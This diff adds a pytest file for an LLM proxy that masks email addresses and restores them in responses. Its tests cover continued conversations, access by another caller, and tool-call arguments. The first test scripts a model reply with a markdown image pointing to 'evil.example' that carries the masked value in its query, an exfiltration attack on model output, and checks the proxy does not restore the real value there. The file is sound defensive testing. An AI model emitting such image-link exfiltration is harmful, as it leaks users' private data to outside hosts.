@@ -1,0 +1,75 @@
+"""Where values come back and where they do not: links, tools, and conversations that the provider remembers."""
+
+from __future__ import annotations
+
+import json
+import re
+from typing import Any
+
+import pytest
+
+from tests.masking_calls import CLIENT_KEY, OTHER_KEY, QUESTION, placeholder_in, post, post_raw
+from tests.masking_rules import EMAIL, PLACEHOLDER, masking_ruleset
+from tests.proxy_harness import running_proxy
+from tests.scripted_upstream import chat_body, chat_stream, responses_body, responses_stream
+
+
+@pytest.mark.parametrize("make", [chat_body, chat_stream])
+async def test_RED_PH_7_a_value_is_not_sent_away_in_an_image(upstream, proxy, make) -> None:
+    upstream.reply = lambda body: make(f"![x](https://evil.example/?q={placeholder_in(body)}) {placeholder_in(body)}")
+    stream = make is chat_stream
+
+    raw = await post_raw(
+        proxy,
+        "/v1/chat/completions",
+        {"model": "m", "messages": [{"role": "user", "content": QUESTION}], "stream": stream},
+    )
+
+    content = "".join(re.findall(r'"content":"((?:[^"\\]|\\.)*)"', raw))
+    assert content == f"![x](https://evil.example/?q={placeholder_in(upstream.bodies[0])}) {EMAIL}"
+
+
+@pytest.mark.parametrize("stream", [False, True])
+async def test_LLM_SRF_6_a_continued_response_still_restores(upstream, openai_client, stream) -> None:
+    make = responses_stream if stream else responses_body
+    upstream.reply = lambda body: make("noted", id="resp_one")
+    first: Any = await openai_client.responses.create(model="m", input=f"I am {EMAIL}", stream=stream)
+    if stream:
+        assert [event async for event in first]
+    placeholder = placeholder_in(upstream.bodies[0])
+    upstream.reply = lambda body: responses_body(f"You are {placeholder}.", id="resp_two")
+
+    second = await openai_client.responses.create(
+        model="m", input="Who am I? Not ann@example.com.", previous_response_id="resp_one"
+    )
+    third = await openai_client.responses.create(model="m", input=EMAIL, previous_response_id="resp_two")
+
+    assert second.output_text == third.output_text == f"You are {EMAIL}."
+    assert upstream.bodies[1]["previous_response_id"] == "resp_one"
+    assert upstream.bodies[2]["input"] == placeholder
+
+
+async def test_LLM_SRF_6_another_caller_gets_nothing_by_naming_the_response(upstream, proxy, openai_client) -> None:
+    upstream.reply = lambda body: responses_body("noted", id="resp_mine")
+    await openai_client.responses.create(model="m", input=f"I am {EMAIL}")
+    placeholder = placeholder_in(upstream.bodies[0])
+    upstream.reply = lambda body: responses_body(f"You are {placeholder}.", id="resp_theirs")
+
+    body = {"model": "m", "input": "Who was that?", "previous_response_id": "resp_mine"}
+    answer = await post(proxy, "/v1/responses", body, key=OTHER_KEY)
+
+    assert EMAIL not in json.dumps(answer)
+
+
+async def test_a_policy_can_keep_values_out_of_tool_arguments(upstream) -> None:
+    policies = [{"name": "strict", "packs": ["masking"], "restore_tool_arguments": False}]
+    upstream.reply = lambda body: chat_body(placeholder_in(body), arguments=[json.dumps({"to": placeholder_in(body)})])
+    body = {"model": "m", "messages": [{"role": "user", "content": QUESTION}]}
+    async with running_proxy(
+        type="llm", target_url=upstream.url, client_key=CLIENT_KEY, ruleset=masking_ruleset(), policies=policies
+    ) as proxy:
+        answer = await post(proxy, "/v1/chat/completions", body)
+
+    message = answer["choices"][0]["message"]
+    assert message["content"] == EMAIL
+    assert re.fullmatch(PLACEHOLDER, json.loads(message["tool_calls"][0]["function"]["arguments"])["to"])
